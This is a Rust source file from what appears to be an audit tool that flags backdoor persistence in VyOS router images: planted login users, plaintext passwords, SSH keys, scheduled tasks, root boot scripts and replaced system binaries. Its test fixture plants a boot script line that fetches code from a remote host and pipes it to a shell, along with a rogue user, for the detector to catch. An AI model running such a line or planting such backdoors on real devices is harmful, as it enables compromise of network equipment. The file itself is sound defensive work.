//! VyOS: `config.boot` login users, their public keys and plaintext
//! passwords, task-scheduler entries, the boot scripts run as root at
//! every boot, other scripts, and what the rw layer changes over the
//! read-only squashfs. The Linux rules also run on the rw layer (the
//! audit runner does that).

use super::content::escalate;
use super::Guest;
use crate::finding::{Category, Confidence, Finding, Layer, Rule, Severity};

/// Login users.
pub static LOGIN_USER: Rule = Rule {
    id: "vyos-login-user",
    title: "VyOS login user",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Account,
    layer: Layer::Accounts,
    doc: "`system login user` entries other than the default `vyos` (medium; info for `vyos`), and a \
          non-empty `plaintext-password` (high: the password in clear in the file). VyOS regenerates \
          /etc/passwd from these at boot, so this is where accounts are planted. Allow lab users \
          with `[allow] users`.",
};
/// Public keys.
pub static PUBLIC_KEY: Rule = Rule {
    id: "vyos-public-key",
    title: "SSH public key in config.boot",
    severity: Severity::High,
    confidence: Confidence::High,
    category: Category::Key,
    layer: Layer::Remote,
    doc:
        "`authentication public-keys` of a login user: VyOS writes it to authorized_keys at boot. \
          Release images carry none. Allow your own by fingerprint with `[allow] keys`.",
};
/// Task scheduler.
pub static TASK: Rule = Rule {
    id: "vyos-task",
    title: "task-scheduler entry",
    severity: Severity::Medium,
    confidence: Confidence::High,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc: "`system task-scheduler task` runs an executable as root on an interval or crontab spec.",
};
/// Boot scripts.
pub static BOOT_SCRIPT: Rule = Rule {
    id: "vyos-boot-script",
    title: "VyOS boot script runs commands",
    severity: Severity::High,
    confidence: Confidence::High,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc: "/config/scripts/vyos-preconfig-bootup.script and vyos-postconfig-bootup.script run as root \
          at every boot; release images ship them with comments only. Any command is reported \
          (critical when it downloads and runs code or opens a shell). Offline injection at this \
          path is a documented technique.",
};
/// Other scripts.
pub static SCRIPT: Rule = Rule {
    id: "vyos-script",
    title: "script under /config/scripts",
    severity: Severity::Low,
    confidence: Confidence::Medium,
    category: Category::Persistence,
    layer: Layer::Persistence,
    doc: "Files in /config/scripts besides the two boot scripts: what task-scheduler entries, \
          commit hooks and event handlers usually run.",
};
/// rw layer.
pub static RW_LAYER: Rule = Rule {
    id: "vyos-rw-layer",
    title: "files in the rw layer over the squashfs",
    severity: Severity::Info,
    confidence: Confidence::High,
    category: Category::Provenance,
    layer: Layer::Filesystem,
    doc:
        "Everything under /boot/<image>/rw outside config/ shadows the read-only system image: the \
          exact set of files changed since the image was installed. Executables in system \
          directories there are medium (a replaced or added program).",
};

/// Every rule of this family.
pub static RULES: &[Rule] = &[LOGIN_USER, PUBLIC_KEY, TASK, BOOT_SCRIPT, SCRIPT, RW_LAYER];

/// Runs the family on VyOS images.
pub fn check(g: &Guest<'_, '_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for img in &g.appliance.vyos {
        if let Some((path, cfg)) = &img.config {
            for u in qvet_inspect::vyos_config::users(cfg) {
                let default = u.name == "vyos";
                let mut f = g
                    .at(&LOGIN_USER, path, format!("login user {}", u.name))
                    .line(Some(u.line))
                    .user(&u.name);
                if u.plaintext_password {
                    f = f
                        .severity(Severity::High)
                        .evidence("plaintext-password", "set (in clear)");
                } else if default {
                    f = f.severity(Severity::Info);
                }
                if let Some(h) = &u.encrypted_password {
                    f = f.evidence("hash", h.chars().take(3).collect::<String>() + "…");
                }
                out.push(f);
                for k in &u.keys {
                    out.push(
                        g.at(
                            &PUBLIC_KEY,
                            path,
                            format!("public key {} for {}", k.id, u.name),
                        )
                        .line(Some(k.line))
                        .user(&u.name)
                        .key(k.fingerprint.clone().unwrap_or_else(|| k.id.clone()))
                        .evidence("type", k.key_type.clone().unwrap_or_default())
                        .evidence(
                            "fingerprint",
                            k.fingerprint
                                .clone()
                                .unwrap_or_else(|| "(undecodable)".into()),
                        ),
                    );
                }
            }
            for t in qvet_inspect::vyos_config::tasks(cfg) {
                let cmd = format!(
                    "{} {}",
                    t.path.clone().unwrap_or_default(),
                    t.arguments.clone().unwrap_or_default()
                );
                let f = g
                    .at(&TASK, path, format!("task {} runs {}", t.name, cmd.trim()))
                    .line(Some(t.line))
                    .evidence("when", t.when.clone().unwrap_or_default());
                out.push(escalate(f, &cmd));
            }
        }
        for (path, first) in &img.boot_scripts {
            let mut f = g
                .at(&BOOT_SCRIPT, path, format!("boot script runs: {first}"))
                .evidence("command", first.clone());
            if let Some(content) = g.tree.read(path.as_bytes(), 1 << 20).content() {
                f = escalate(f, &String::from_utf8_lossy(content));
            }
            out.push(f);
        }
        for s in &img.other_scripts {
            out.push(g.at(&SCRIPT, s, format!("script {s}")));
        }
        if img.rw_file_count > 0 {
            let rw = img.rw.clone().unwrap_or_default();
            out.push(
                g.at(
                    &RW_LAYER,
                    &rw,
                    format!(
                        "{} file(s) in the rw layer of image {}",
                        img.rw_file_count, img.name
                    ),
                )
                .evidence(
                    "files",
                    img.rw_files
                        .iter()
                        .take(20)
                        .cloned()
                        .collect::<Vec<_>>()
                        .join(", "),
                ),
            );
            for p in &img.rw_files {
                let rel = p.strip_prefix(&rw).unwrap_or(p);
                let system = [
                    "/bin/",
                    "/sbin/",
                    "/usr/bin/",
                    "/usr/sbin/",
                    "/usr/lib/",
                    "/lib/",
                    "/usr/libexec/",
                    "/opt/vyatta/bin/",
                    "/opt/vyatta/sbin/",
                ]
                .iter()
                .any(|d| rel.starts_with(d));
                let exec = g
                    .tree
                    .get(p.as_bytes())
                    .is_some_and(|e| e.is_file() && e.meta.mode & 0o111 != 0);
                if system && exec {
                    out.push(
                        g.at(
                            &RW_LAYER,
                            p,
                            format!("executable {rel} shadows the system image"),
                        )
                        .severity(Severity::Medium),
                    );
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::{findings, Fixture};

    const STOCK: &[u8] = b"system {\n    host-name vyos\n    login {\n        user vyos {\n            authentication {\n                encrypted-password $6$abc$def\n                plaintext-password \"\"\n            }\n        }\n    }\n}\n";
    const POST: &[u8] = b"#!/bin/sh\n# This script is executed at boot time after VyOS configuration is fully applied.\n";

    fn fixture() -> Fixture {
        let mut f = Fixture::new();
        f.fs.file("/boot/1.3.2/1.3.2.squashfs", 0o644, b"hsqs")
            .file("/boot/1.3.2/rw/config/config.boot", 0o644, STOCK)
            .file(
                "/boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script",
                0o755,
                POST,
            );
        f
    }

    #[test]
    fn stock_image_is_quiet() {
        let found = findings(&fixture(), check);
        assert!(
            found.iter().all(|f| f.severity == Severity::Info),
            "{found:?}"
        );
        assert_eq!(found.len(), 1, "the default vyos user only");
    }

    #[test]
    fn planted_image_is_loud() {
        let mut f = fixture();
        let planted = String::from_utf8_lossy(STOCK).replace(
            "        user vyos {",
            "        user svc {\n            authentication {\n                plaintext-password hunter2\n                public-keys k1 {\n                    key AAAAC3NzaC1lZDI1NTE5AAAAIAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8g\n                    type ssh-ed25519\n                }\n            }\n        }\n        user vyos {",
        ).replace(
            "    host-name vyos\n",
            "    host-name vyos\n    task-scheduler {\n        task t {\n            executable {\n                path /config/scripts/t.sh\n            }\n            interval 1h\n        }\n    }\n",
        );
        f.fs.file(
            "/boot/1.3.2/rw/config/config.boot",
            0o644,
            planted.as_bytes(),
        )
        .file(
            "/boot/1.3.2/rw/config/scripts/vyos-postconfig-bootup.script",
            0o755,
            b"#!/bin/sh\ncurl -s http://203.0.113.7/p | sh\n",
        )
        .file("/boot/1.3.2/rw/config/scripts/t.sh", 0o755, b"#!/bin/sh\n")
        .file("/boot/1.3.2/rw/usr/sbin/sshd", 0o755, b"\x7fELF");
        let found = findings(&f, check);
        let got: Vec<_> = found.iter().map(|f| (f.rule.id, f.severity)).collect();
        for want in [
            ("vyos-login-user", Severity::High),
            ("vyos-public-key", Severity::High),
            ("vyos-boot-script", Severity::Critical),
            ("vyos-script", Severity::Low),
            ("vyos-task", Severity::Medium),
            ("vyos-rw-layer", Severity::Medium),
        ] {
            assert!(got.contains(&want), "{want:?} not in {got:?}");
        }
        let key = found
            .iter()
            .find(|f| f.rule.id == "vyos-public-key")
            .unwrap();
        assert!(key.key.as_deref().is_some_and(|k| k.starts_with("SHA256:")));
    }
}
